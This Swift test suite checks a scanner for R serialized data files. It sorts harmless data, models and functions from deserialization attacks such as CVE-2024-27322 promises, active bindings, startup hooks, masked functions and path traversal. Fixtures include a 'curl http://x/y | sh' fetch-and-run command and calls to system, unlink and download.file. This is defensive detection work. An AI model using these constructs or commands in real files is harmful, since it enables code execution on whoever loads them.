import Findings
import TestSupport
import Testing

/// Objects of R: data and models are allowed, code by what it calls and when it runs.
@Suite struct RDataTests {
  private typealias Object = RBuilder.Object

  private static let hostile = RBuilder.hostile
  private static let x = Object.symbol("x")

  private static func call(_ name: String, _ arguments: Object...) -> Object {
    .call(.symbol(name), arguments.map { (nil, $0) })
  }

  private static func function(
    _ body: Object, _ formals: [String] = ["x"], in environment: Object = .global
  ) -> Object {
    .function(formals.map { ($0, .missing) }, body, in: environment)
  }

  private static func environment(_ bindings: (String, Object, Bool)...) -> Object {
    .environment(bindings, attributes: [])
  }

  private static func promise(_ code: Object) -> Object {
    environment(("x", .promise(code, value: .unbound, in: .global), false))
  }

  private static let formula = Object.attributed(
    call("~", .symbol("y"), call("log", .symbol("system"))),
    [("class", .texts(["formula"])), (".Environment", .global)])

  private static let model = Object.attributed(
    .list([
      .reals([1, 2.5, -1]), call("lm", formula, .symbol("data")), formula,
      function(call(".Call", .symbol("C_logit_link"), x), in: .namespace("stats")),
    ]),
    [("names", .texts(["coefficients", "call", "terms", "link"])), ("class", .texts(["glm", "lm"]))])

  // MARK: What is allowed

  struct Whole: Sendable, CustomTestStringConvertible {
    let testDescription: String
    let object: RBuilder.Object
  }

  static let whole = [
    Whole(testDescription: "nothing", object: .null),
    Whole(
      testDescription: "numbers", object: .list([.integers([1, .min]), .reals([0.5]), .logicals([1])])),
    Whole(
      testDescription: "a factor",
      object: .attributed(
        .integers([1, 2]), [("levels", .texts(["a b", "c\\d"])), ("class", .texts(["factor"]))])),
    Whole(testDescription: "a model", object: model),
    Whole(
      testDescription: "an instance", object: .instance([("n", .reals([1])), ("class", .texts(["P"]))])),
    Whole(testDescription: "an environment", object: environment(("a", .integers([1]), false))),
    Whole(
      testDescription: "a function that computes",
      object: function(call("sum", x, call("c", x)), ["x", "f"])),
    Whole(
      testDescription: "an evaluated promise",
      object: environment(("x", .promise(call("c", x), value: .reals([1]), in: .null), false))),
    Whole(
      testDescription: "a function of the file's own",
      object: environment(("f", function(x), false), ("g", function(call("f", x)), false))),
    Whole(
      testDescription: "a sequence", object: .alternative("compact_intseq", "base", .reals([10, 1, 1]))),
    Whole(testDescription: "a builtin", object: .builtin("abs")),
    Whole(testDescription: "a pointer", object: .list([.pointer, .raw([1, 2, 3])])),
    Whole(
      testDescription: "compiled code",
      object: function(.byteCode([12, 23, 1, 38, 0, 1], [call("sum", x), .symbol("sum")]))),
  ]

  @Test(arguments: whole) func `an object that runs nothing is allowed in every way of writing`(
    _ sample: Whole
  ) {
    for way in RBuilder.Way.allCases {
      for version in [2, 3] as [Int32] {
        let builder = RBuilder(way: way, version: version)
        let report = Examination.report(builder.build(sample.object))
        #expect(report.verdict == .allow, "\(way) \(version): \(report.summary)")
        #expect(report.formats.contains("r-data"))
        let image = RBuilder(way: way, version: version, image: way == .words ? "RDA" : "RDX")
        #expect(Examination.report(image.build("value", sample.object)).verdict == .allow)
      }
    }
  }

  @Test func `bytes that an object holds are examined`() {
    let inner = RBuilder().build(Self.promise(Self.hostile))
    let report = Examination.report(RBuilder().build(.list([.raw(inner)])))
    #expect(report.verdict == .deny, "\(report.summary)")
  }

  // MARK: What runs by itself

  private static func sample(_ what: String, _ object: Object, _ rule: String, _ verdict: Verdict)
    -> JudgedSample
  {
    JudgedSample(what, RBuilder().build(object), rule, verdict)
  }

  private static func image(
    _ what: String, _ name: String, _ object: Object, _ rule: String, _ verdict: Verdict
  ) -> JudgedSample {
    JudgedSample(what, RBuilder(image: "RDX").build(name, object), rule, verdict)
  }

  static let running: [JudgedSample] = [
    sample(
      "CVE-2024-27322: a promise alone", .promise(hostile, value: .unbound, in: .global),
      "r.runs-dangerous-code", .deny),
    sample("a promise in an environment", promise(hostile), "r.runs-dangerous-code", .deny),
    sample(
      "a promise with a qualified call", promise(.call(call("::", .symbol("base"), .symbol("system")), [])),
      "r.runs-dangerous-code", .deny),
    sample(
      "a promise that hands the name on", promise(call("do.call", .texts(["system"]), .list([]))),
      "r.runs-dangerous-code", .deny),
    sample(
      "a promise that hands the function on", promise(call("sapply", .texts(["id"]), .symbol("system"))),
      "r.runs-dangerous-code", .deny),
    sample(
      "a promise that assigns the function", promise(call("<-", .symbol("f"), .symbol("system"))),
      "r.runs-dangerous-code", .deny),
    sample(
      "a promise that takes the function out of a package",
      promise(call("$", call("baseenv"), .symbol("system"))), "r.runs-dangerous-code", .deny),
    sample(
      "a promise of compiled code",
      promise(.byteCode([12, 23, 1, 38, 0, 1], [hostile, .symbol("system")])), "r.runs-dangerous-code",
      .deny),
    sample(
      "a promise that makes a text a call", promise(call("as.formula", .texts(["y ~ system('id')"]))),
      "r.runs-dangerous-code", .deny),
    sample(
      "a promise with a builtin in place of a name", promise(.call(.builtin("system"), [])),
      "r.runs-dangerous-code", .deny),
    sample(
      "a promise that writes a file",
      promise(.call(.symbol("cat"), [(nil, .texts(["x"])), ("file", .texts(["y"]))])),
      "r.runs-dangerous-code", .deny),
    sample(
      "a promise that calls a function of the file",
      environment(
        ("f", function(hostile), false), ("x", .promise(call("f"), value: .unbound, in: .global), false)),
      "r.runs-dangerous-code", .deny),
    sample(
      "an active binding", environment(("x", function(hostile), true)), "r.runs-dangerous-code", .deny),
    sample(
      "an object that prints itself",
      .environment([("print", function(hostile), false)], attributes: [("class", .texts(["R6"]))]),
      "r.runs-dangerous-code", .deny),
    sample("a file as a vector", .alternative("mmap_real", "base", .list([])), "r.file-mapping", .deny),
    sample("a package's path", .namespace("../../tmp/x"), "r.package-path", .deny),
    sample("instructions that R has not", function(.byteCode([12, 999], [x])), "r.byte-code", .deny),
    sample("a constant that is not there", function(.byteCode([12, 23, 7], [x])), "r.byte-code", .deny),
    sample(
      "a function that runs what it fetches", function(call("system", .texts(["curl http://x/y | sh"]))),
      "r.payload", .deny),
    sample(
      "a function that runs what it decodes", function(call("eval", call("parse", call("rawToChar", x)))),
      "r.payload", .deny),
    image(
      "an image with a promise", "x", .promise(hostile, value: .unbound, in: .global),
      "r.runs-dangerous-code", .deny),
    image(
      "an image that hides a method of R", "print.data.frame", function(hostile), "r.runs-dangerous-code",
      .deny),
    image("an image with a method", "print.mine", function(hostile), "r.runs-dangerous-code", .deny),
    image("an image that R starts with", ".First", function(hostile), "r.runs-dangerous-code", .deny),
    image("an image that ends R", ".Last", function(call("unlink", x)), "r.runs-dangerous-code", .deny),
    image(
      "an image that hides a function", "library", function(call("download.file", x)),
      "r.runs-dangerous-code", .deny),
  ]

  @Test(arguments: running) func `dangerous code that runs by itself is denied`(_ sample: JudgedSample) {
    sample.check()
  }

  static let reviewed: [JudgedSample] = [
    sample("a harmless promise", promise(call("sum", x)), "r.promise", .review),
    sample(
      "a harmless active binding", environment(("x", function(.reals([1])), true)), "r.active-binding",
      .review),
    sample("a call", hostile, "r.dangerous-function", .review),
    sample("an expression", .expressions([hostile]), "r.dangerous-function", .review),
    sample("a function", function(hostile), "r.dangerous-function", .review),
    sample(
      "a function in an attribute", .attributed(.reals([1]), [("hook", function(hostile))]),
      "r.dangerous-function", .review),
    sample(
      "a function behind a parameter of the name",
      function(call("sapply", x, call("get", .texts(["system"])))), "r.dangerous-function", .review),
    sample("a call in a formula", call("~", .symbol("y"), hostile), "r.dangerous-function", .review),
    sample("a call of a model", call("lm", formula, hostile), "r.dangerous-function", .review),
    sample("a function nobody knows", function(call("frobnicate", x)), "r.unknown-function", .review),
    sample(
      "a parameter that is no function",
      .function([("frobnicate", .reals([1]))], call("frobnicate", x), in: .global), "r.computed-call",
      .review),
    sample(
      "a made name", function(.call(call("[[", x, call("paste0", .texts(["sys"]))), [])), "r.computed-call",
      .review),
    sample(
      "a value that a kept call hands on",
      .list([
        call("sapply", x, .symbol("n")),
        environment(("n", .texts(["system"]), false), ("n", function(x), false)),
      ]), "r.computed-call", .review),
    sample(
      "a method found by a name", function(call("UseMethod", .texts(["sys"]))), "r.computed-call", .review),
    sample("a parameter that is called", function(call("g", x), ["x", "g"]), "r.computed-call", .review),
    sample(
      "a parameter that is handed on", function(call("do.call", .symbol("g"), x), ["x", "g"]),
      "r.computed-call", .review),
    sample(
      "a parameter that is a text",
      .function([("g", .texts(["system"]))], call("do.call", .symbol("g"), call("list", x)), in: .global),
      "r.computed-call", .review),
    sample(
      "a parameter that is handed on behind an argument with a name",
      function(
        .call(.symbol("sapply"), [("simplify", .logicals([1])), (nil, x), (nil, .symbol("g"))]), ["x", "g"]),
      "r.computed-call", .review),
    sample(
      "a parameter that is handed on by a cut name",
      function(.call(.symbol("sapply"), [("FU", .symbol("g")), (nil, x)]), ["x", "g"]), "r.computed-call",
      .review),
    sample(
      "a variable that is handed on",
      function(
        call("{", call("<-", .symbol("n"), call("c", .texts(["abs"]))), call("get", .symbol("n")))),
      "r.computed-call", .review),
    sample(
      "a variable that a function of the file has the name of",
      environment(
        ("g", function(x), false),
        ("h", function(call("{", call("<-", .symbol("g"), x), call("g", x))), false)),
      "r.computed-call", .review),
    sample(
      "a loop's variable that is called", function(call("for", .symbol("g"), x, call("g", x))),
      "r.computed-call", .review),
    sample(
      "an element that is handed on", function(call("sapply", x, call("[[", x, .reals([1])))),
      "r.computed-call", .review),
    sample(
      "the environment of a package", function(call(".subset2", call("environment", .symbol("lm")), x)),
      "r.computed-call", .review),
    sample("a package nobody knows", .namespace("frobnicate"), "r.unknown-package", .review),
    sample(
      "a vector of a package", .alternative("made", "frobnicate", .list([])), "r.unknown-vector-class",
      .review),
    sample(
      "a sequence made of something else", .alternative("compact_intseq", "base", .texts(["x"])),
      "r.irregular", .review),
    sample("an object kept elsewhere", .persistent("env::1"), "r.irregular", .review),
    sample(
      "another package's compiled code", function(call(".Call", .symbol("C_x"), x)), "r.dangerous-function",
      .review),
    image("a hidden function", "c", function(x), "r.masks-function", .review),
    image("a hidden truth", "T", .logicals([0]), "r.masks-function", .review),
    image("a hook", ".First", function(x), "r.start-up-hook", .review),
  ]

  @Test(arguments: reviewed) func `code that somebody has to call is for review`(_ sample: JudgedSample) {
    sample.check()
  }

  // MARK: Damage

  @Test func `what cannot be read is incomplete`() {
    var wide = RBuilder()
    wide.encoding = "IBM037"
    let samples: [[UInt8]] = [
      RBuilder(version: 4, image: "RDX").build(.null), RBuilder(version: 1, image: "RDX").build(.null),
      wide.build(.texts(["x"])), RBuilder().build(.reference(1)), RBuilder().build(.flags(77, [])),
      RBuilder().build(.flags(16, [1 << 30])), RBuilder().build(.flags(14, [-1, 1, 1])),
      RBuilder().build(.flags(14, [-2])), RBuilder().build(.byteCode([12], [.repeatedCall(5, of: 0)])),
      RBuilder().build(.byteCode([12], [.repeatedCall(5, of: 1)])),
      RBuilder().build(.flags(19, [1]))
        + (0..<110_000).flatMap { _ in [0, 0, 0, 19, 0, 0, 0, 2] as [UInt8] },
    ]
    for (number, bytes) in samples.enumerated() {
      let report = Examination.report(bytes)
      #expect(report.verdict == .incomplete, "\(number): \(report.summary)")
    }
  }

  @Test func `what stands before the damage counts`() {
    let bytes = RBuilder().build(.list([Self.promise(Self.hostile), .reals([1, 2, 3])])).dropLast(4)
    let report = Examination.report(Array(bytes))
    #expect(report.verdict == .deny && !report.coverage.gaps.isEmpty, "\(report.summary)")
  }

  @Test func `R does not look at the byte behind the letter`() {
    var builder = RBuilder()
    builder.second = UInt8(ascii: "z")
    #expect(Examination.report(builder.build(Self.promise(Self.hostile))).verdict == .deny)
  }

  @Test(arguments: RBuilder.Way.allCases) func `damage is borne`(_ way: RBuilder.Way) {
    let sample = RBuilder(way: way).build(Self.model)
    Damage.bear(sample)
    Damage.refuseTails(after: sample.last == 0x0A ? sample + [1] : sample)
    if way == .external { Damage.refuseTruncations(of: sample, from: 14) }
  }
}
